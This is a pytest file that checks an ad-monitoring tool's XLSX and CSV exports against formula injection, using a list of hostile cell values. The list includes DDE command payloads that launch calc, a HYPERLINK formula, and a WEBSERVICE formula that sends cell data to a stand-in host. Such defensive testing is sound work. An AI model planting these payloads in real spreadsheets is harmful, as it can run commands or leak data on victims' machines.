"""Hostile text in every cell of the weekly list."""

from __future__ import annotations

import csv
import re
import zipfile
from io import StringIO
from pathlib import Path

import pytest
from python_calamine import CalamineWorkbook

from adwatch.casework.sheet import CELL_LIMIT, cell, csv_cell
from tests.casework.test_export import HEADINGS, export
from tests.store.world import World, listing, verdict

HOSTILE = [
    *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1+1", "＝1+1", "＋1", "－1", "＠SUM(1)"),
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://a.example","x")',
    '=WEBSERVICE(CONCATENATE("http://a.example/",A1))',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '"=1+1',
    "'=1",
    "%0A=1",
    "http://a.example/",
    "mailto:a@a.example",
    "internal:Sheet1!A1",
    "external:c:\\a.xlsx",
    "1e5",
    "007",
    "TRUE",
    "{=1}",
    "_x0041_",
    "a\x00\x01\x08\x0b\x1f\ufffe\ud800b",
    "</t></is><c t='f'>",
    "😀" * 40_000,
    "x" * 40_000,
]


def _hostile(world: World) -> None:
    for number, text in enumerate(HOSTILE):
        clean = text.replace("\x00", "\ufffd").replace("\ud800", "\ufffd")  # as every text is on its way in
        more = dict.fromkeys(("title", "seller_name", "operator_name", "seller_region", "price_text", "url"), clean)
        item = listing(f"n{number}", f"{clean}包过{clean}", **more)
        world.store(item)
        world.judge(verdict(item))


def test_no_cell_of_the_sheet_is_a_formula_a_link_or_too_long(world: World, tmp_path: Path) -> None:
    _hostile(world)
    file = export(world, tmp_path, "xlsx")[0]
    with zipfile.ZipFile(file) as package:
        names = package.namelist()
        sheet = package.read("xl/worksheets/sheet1.xml").decode()
        styles = package.read("xl/styles.xml").decode()
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet
    assert not [name for name in names if "external" in name.lower() or "worksheets/_rels" in name]
    assert 'quotePrefix="1"' in styles, "a cell that is edited stays text"
    rows = CalamineWorkbook.from_path(str(file)).get_sheet_by_name("监测清单").to_python()
    assert len(rows) == len(HOSTILE) + 1
    longest = 0
    for row in rows[1:]:
        for value in row[1:]:
            assert isinstance(value, str), value
            longest = max(longest, len(value.encode("utf-16-le")) // 2)
            assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", value)
    assert longest == CELL_LIMIT


def test_no_cell_of_the_csv_starts_a_formula(world: World, tmp_path: Path) -> None:
    _hostile(world)
    content = export(world, tmp_path, "csv")[0].read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")
    csv.field_size_limit(1 << 20)
    rows = list(csv.reader(StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows[0] == HEADINGS
    assert len(rows) == len(HOSTILE) + 1
    for row in rows[1:]:
        assert len(row) == len(HEADINGS)
        for value in row:
            assert not value.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")), value
            assert not value.startswith(("\t", "\r", "\n")), value


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@a", "\ta", "\ra", "\na", " =1", "＝1", "\u3000=1"])
def test_what_starts_a_formula_gets_an_apostrophe(text: str) -> None:
    assert csv_cell(text) == cell("'" + text)


def test_a_cell_is_cut_between_characters_by_the_units_that_excel_counts() -> None:
    assert cell("x" * 40_000) == "x" * 32_767
    assert cell("😀" * 40_000) == "😀" * 16_383
    assert cell("x" * 32_767) == "x" * 32_767


@pytest.mark.parametrize("text", ["", "a=1", "1-1", "电工证", "a@b", "'a", "http://a.example"])
def test_other_cells_stay_as_they_are(text: str) -> None:
    assert csv_cell(text) == text
